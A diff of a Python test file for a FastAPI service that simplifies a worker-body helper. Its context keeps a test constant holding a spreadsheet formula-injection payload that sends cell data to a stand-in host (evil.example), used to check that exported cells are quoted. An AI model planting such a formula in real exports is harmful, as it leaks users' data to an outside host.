@@ -14,7 +14,6 @@ from fastapi.testclient import TestClient
 
 from tests.helpers import API, study_spec
 from tuneyard.api.app import create_app
-from tuneyard.api.schemas import FailIn
 from tuneyard.settings import Settings
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
@@ -29,10 +28,8 @@ def http(settings: Settings) -> Iterator[TestClient]:
 
 
 def _worker_body(job: dict[str, Any], **fields: Any) -> dict[str, Any]:
-    """A worker call's body; with the attempt it was given where the API asks for it."""
-    if "attempt" in FailIn.model_fields:
-        fields["attempt"] = job["attempt"]
-    return fields
+    """A worker call's body, with the attempt the job was given."""
+    return {"attempt": job["attempt"], **fields}
 
 
 def test_text_cells_that_a_spreadsheet_would_run_are_quoted(http: TestClient) -> None:
